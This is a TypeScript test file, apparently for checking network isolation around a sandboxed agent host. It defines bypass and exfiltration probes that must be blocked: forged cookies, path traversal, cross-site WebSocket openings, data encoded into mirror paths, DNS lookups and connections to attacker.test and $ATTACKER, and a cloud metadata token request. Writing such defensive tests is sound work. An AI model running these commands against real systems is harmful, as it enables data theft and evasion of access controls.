import type { Place } from "../../machines/places";
import type { Row } from "../row";
import { blocked, from, tcp, works } from "./ways";

const host = "agent.example.com";
const site = `https://${host}`;
const ask = "curl -k -sS -f -m 20 -o /dev/null";
const signedIn = `${ask} -u "$LOGIN"`;
const reached = { sees: "container.*$NONCE" };

/** One request as bytes, over TLS to the site. */
const bytes = (text: string) =>
    `printf '${text}' | timeout 8 openssl s_client -quiet -connect ${host}:443 -servername ${host} >/dev/null 2>&1`;
const login = "Authorization: Basic ".concat('\'"$(printf %s "$LOGIN" | base64 -w0)"\'');
const request = (line: string, name = host, who = `${login}\\r\\n`) =>
    bytes(`${line} HTTP/1.1\\r\\nHost: ${name}\\r\\n${who}Connection: close\\r\\n\\r\\n`.replace("$NONCE", "'$NONCE'"));

const opening = (origin: string, more = "") =>
    bytes(
        `GET /sockets/events/1?n='$NONCE' HTTP/1.1\\r\\nHost: ${host}\\r\\n${login}\\r\\nOrigin: ${origin}\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n${more}\\r\\n`,
    );

type Attempt = readonly [id: string, run: string, control: string, source: string, place?: Place];

/** Requests that must not reach the container. The control is the same request without what makes it hostile: that one does. */
const requests: readonly Attempt[] = [
    ["no-login", `${ask} ${site}/$NONCE`, `${signedIn} ${site}/$NONCE`, "O74", "internet"],
    [
        "no-login-api",
        `${ask} -X POST -H 'Origin: ${site}' -d '{}' ${site}/api/$NONCE`,
        `${signedIn} -X POST -H 'Origin: ${site}' -d '{}' ${site}/api/$NONCE`,
        "O74",
        "internet",
    ],
    [
        "no-login-two-slashes",
        `${ask} --path-as-is ${site}//api/$NONCE`,
        `${signedIn} --path-as-is ${site}/api/$NONCE`,
        "O74",
        "internet",
    ],
    ["no-login-percent", `${ask} ${site}/%61pi/$NONCE`, `${signedIn} ${site}/%61pi/$NONCE`, "O74", "internet"],
    [
        "no-login-dots",
        `${ask} --path-as-is ${site}/sign-in/../$NONCE`,
        `${signedIn} --path-as-is ${site}/$NONCE`,
        "O74",
        "internet",
    ],
    ["no-login-git", `${ask} ${site}/git/$NONCE`, `${signedIn} ${site}/$NONCE`, "O74", "internet"],
    [
        "wrong-password",
        `${ask} -u "alice:wrong-$NONCE" ${site}/$NONCE`,
        `${signedIn} ${site}/$NONCE`,
        "O68",
        "internet",
    ],
    [
        "forged-session-header",
        `${ask} -H 'X-Openhands-Session: chosen' ${site}/$NONCE`,
        `${signedIn} -H 'X-Openhands-Session: chosen' ${site}/$NONCE`,
        "O74",
        "internet",
    ],
    [
        "forged-cookie",
        `${ask} -H "Cookie: __Host-openhands=$NONCE" ${site}/$NONCE`,
        `${signedIn} ${site}/$NONCE`,
        "O74",
        "internet",
    ],
    ["trace", request("TRACE /$NONCE"), request("GET /$NONCE"), "O74", "user"],
    ["options", request("OPTIONS /$NONCE"), request("GET /$NONCE"), "O74", "user"],
    ["method-in-small-letters", request("get /$NONCE"), request("GET /$NONCE"), "O74", "user"],
    ["other-host", request("GET /$NONCE", "attacker.test"), request("GET /$NONCE"), "O73", "user"],
    [
        "other-tls-name",
        `${signedIn} --connect-to ::$SITE:443 https://attacker.test/$NONCE`,
        `${signedIn} ${site}/$NONCE`,
        "O73",
        "user",
    ],
    [
        "cross-site-post",
        `${signedIn} -X POST -H 'Origin: https://attacker.test' -H 'content-type: text/plain' -d '{}' ${site}/api/$NONCE`,
        `${signedIn} -X POST -H 'Origin: ${site}' -H 'content-type: text/plain' -d '{}' ${site}/api/$NONCE`,
        "O72",
        "user",
    ],
    [
        "cross-site-post-without-origin",
        `${signedIn} -X POST -H 'Sec-Fetch-Site: cross-site' -d '{}' ${site}/api/$NONCE`,
        `${signedIn} -X POST -H 'Sec-Fetch-Site: same-origin' -d '{}' ${site}/api/$NONCE`,
        "O72",
        "user",
    ],
    ["websocket-of-another-site", opening("https://attacker.test"), opening(site), "O71", "user"],
    ["websocket-with-a-body", opening(site, "Content-Length: 4\\r\\n"), opening(site), "O75", "user"],
    [
        "two-login-cookies",
        `${signedIn} -H 'Cookie: __Host-openhands=a; __Host-openhands=b' ${site}/$NONCE`,
        `${signedIn} -H 'Cookie: other=a' ${site}/$NONCE`,
        "O74",
        "user",
    ],
    ["plain-http", `${signedIn} http://${host}/$NONCE`, `${signedIn} ${site}/$NONCE`, "O79", "user"],
];

/** Headers of the client that the container must not see; the control is one that it may see. */
const headers: readonly (readonly [name: string, source: string])[] = [
    ["x-forwarded-for", "O65"],
    ["x-real-ip", "O65"],
    ["forwarded", "O65"],
    ["x-forwarded-host", "O65"],
    ["x-original-url", "O74"],
    ["http2-settings", "O76"],
    ["x-openhands-session", "O74"],
    ["x-nobody-has-thought-of", "O74"],
];

const header = (name: string) => `${signedIn} -H "${name}: 1.$NONCE" ${site}/`;

const people: readonly Row[] = [
    ...requests.map(([id, run, other, source, place = "user"]) =>
        blocked(`site-${id}`, place, run, {
            ...reached,
            layer: "nginx-rules",
            source,
            control: { from: place, run: other },
        }),
    ),
    ...headers.map(([name, source]) =>
        blocked(`site-header-${name}`, "user", header(name), {
            ...{ sees: `container.*1.$NONCE`, layer: "nginx-rules", source },
            control: { from: "user", run: header("x-session-api-key") },
        }),
    ),
    blocked("site-login-is-not-shown", "user", `${signedIn} ${site}/$NONCE`, {
        ...{ sees: "container.*/$NONCE.*(Basic|__Host)", layer: "nginx-rules", source: "O63" },
        control: { from: "user", run: `${signedIn} -H 'x-session-api-key: Basic x' ${site}/$NONCE` },
    }),
];

/** Doors from addresses that are not authorized, the attacker's, an endpoint's and a mirror's among them. */
const strangers: readonly (readonly [place: Place, own: string])[] = [
    ["outsider", "198.51.100.77"],
    ["attacker", "$ATTACKER"],
    ["upstream", "$LLM"],
    ["mirror", "$MIRROR"],
    ["mitm", "192.0.2.52"],
];
const closed: readonly Row[] = strangers.flatMap(([place, own]) => [
    ...[`${site}/`, `http://${host}/`].map((url) => {
        const ask = (by: string) => `curl -k -sS -m 5 -o /dev/null ${by} ${url}`;
        const control = { from: "user", run: ask("") } as const;
        return blocked(`site-${url.split(":")[0]}-${place}`, place, ask(`--interface ${own}`), {
            layer: "acls",
            source: "O83",
            control,
        });
    }),
    blocked(`edge-gateway-${place}`, place, `curl -sS -m 3 -o /dev/null --interface ${own} http://$EDGE:4080/`, {
        ...{ layer: "gateways", source: "O83" },
    }),
]);

const asApt = "setpriv --reuid _apt --clear-groups curl -sS -f -m 8 -o /dev/null";
const mirror = "http://$EDGE:4080/ubuntu";
const fetched = { sees: '"kind":"mirror".*$NONCE', layer: "nginx-rules", source: "O84" };

/** The package gateway as a way out: a mirror's paths carry packages in, and nothing out. */
const packages: readonly Row[] = from(["agent-host", "verifier-host"], (place) => [
    blocked("package-query", place, `${asApt} "${mirror}/dists/noble/InRelease?d=$NONCE"`, fetched),
    blocked(
        "package-path-of-a-secret",
        place,
        `${asApt} ${mirror}/pool/$(printf %s "data of $NONCE" | base64 -w0)-$NONCE`,
        fetched,
    ),
    blocked(
        "package-long-path",
        place,
        `${asApt} ${mirror}/pool/main/h/hello/hello_$NONCE$(printf a%.0s {1..900})_amd64.deb`,
        fetched,
    ),
    blocked("package-other-folder", place, `${asApt} http://$EDGE:4080/$NONCE`, fetched),
    blocked("package-dots", place, `${asApt} --path-as-is ${mirror}/pool/main/../../../$NONCE`, fetched),
    blocked("package-post", place, `${asApt} -X POST -d $NONCE ${mirror}/dists/noble/$NONCE`, fetched),
    blocked("package-put", place, `${asApt} -X PUT ${mirror}/pool/main/h/hello/hello_\${NONCE}_amd64.deb`, {
        ...fetched,
        sees: '"kind":"mirror".*PUT.*$NONCE',
    }),
    blocked(
        "package-header",
        place,
        `${asApt} -H "x-carries: $NONCE" -H "cookie: $NONCE" -A "agent $NONCE" ${mirror}/dists/noble/InRelease`,
        fetched,
    ),
    blocked(
        "package-absolute",
        place,
        `setpriv --reuid _apt --clear-groups curl -sS -f -m 8 -o /dev/null -x http://$EDGE:4080 http://attacker.test/$NONCE`,
        { sees: '"kind":"(sink|mirror)".*$NONCE', layer: "nginx-rules", source: "O84" },
    ),
    blocked(
        "package-connect",
        place,
        `setpriv --reuid _apt --clear-groups curl -k -sS -f -m 8 -o /dev/null -p -x http://$EDGE:4080 https://attacker.test/$NONCE`,
        {
            ...{ sees: '"kind":"(sink|mirror)".*$NONCE', layer: "nginx-rules", source: "O84" },
            control: { from: "outsider", run: "curl -k -sS -f -m 8 -o /dev/null https://attacker.test/$NONCE" },
        },
    ),
]);

const asGateway: readonly Row[] = [
    ...([22, 853, 4444, 8443] as const).map((port) =>
        blocked(`tcp-${port}-gateway`, "gateway", tcp("$ATTACKER", port), { layer: "host-firewall", source: "O34" }),
    ),
    blocked("https-gateway", "gateway", "curl -k -sS -f -m 3 -o /dev/null https://$ATTACKER/$NONCE", {
        layer: "host-firewall",
        source: "O34",
    }),
    blocked(
        "mirror-gateway",
        "gateway",
        "curl -k -sS -f -m 3 -o /dev/null --connect-to ::$MIRROR:443 https://mirrors.edge.kernel.org/$NONCE",
        { layer: "host-firewall", source: "O34" },
    ),
    blocked(
        "imds-gateway",
        "gateway",
        "curl -sS -f -m 2 -o /dev/null -X PUT -H 'x-aws-ec2-metadata-token-ttl-seconds: 60' http://169.254.169.254/latest/api/token",
        { layer: "host-firewall", source: "O34" },
    ),
    blocked("agent-relay-gateway", "gateway", "curl -k -sS -m 3 -o /dev/null https://$AGENT:3000/", {
        layer: "host-firewall",
        source: "O34",
    }),
    blocked("dns-gateway", "gateway", "dig +time=1 +tries=1 $NONCE.attacker.test @8.8.8.8 | grep -q 'ANSWER: [1-9]'", {
        layer: "host-firewall",
        source: "O34",
    }),
];

const pinned =
    "cd /var/lib/isolated-openhands/tls; setpriv --reuid openhands-passage --regid openhands-passage --groups host-tls curl -k -sS -f -m 8 -o /dev/null";

/** From one host to another's door, by somebody who is not who may knock. */
const neighbours: readonly Row[] = [
    blocked("openhands-of-root-edge", "edge-host", "curl -k -sS -m 3 -o /dev/null https://$AGENT:3000/", {
        layer: "host-firewall",
        source: "O82",
    }),
    blocked("openhands-without-certificate-edge", "edge-host", `${pinned} https://$AGENT:3000/$NONCE`, {
        ...{ ...reached, layer: "nginx-rules", source: "O82" },
        control: {
            from: "edge-host",
            run: `${pinned} --cert certificate.pem --key key.pem https://$AGENT:3000/$NONCE`,
        },
    }),
    blocked("openhands-verifier", "verifier-host", "curl -k -sS -m 3 -o /dev/null https://$AGENT:3000/", {
        layer: "groups",
        source: "O82",
    }),
    ...([4444, 8443, 22, 25] as const).map((port) =>
        blocked(`tcp-${port}-edge-host`, "edge-host", tcp("$ATTACKER", port), { layer: "groups" }),
    ),
    works("edge-asks-itself", "edge-host", `curl -k -sS -m 8 -o /dev/null --connect-to ::127.0.0.1:443 ${site}/`),
];

export const doorRows: readonly Row[] = [...people, ...closed, ...packages, ...asGateway, ...neighbours];
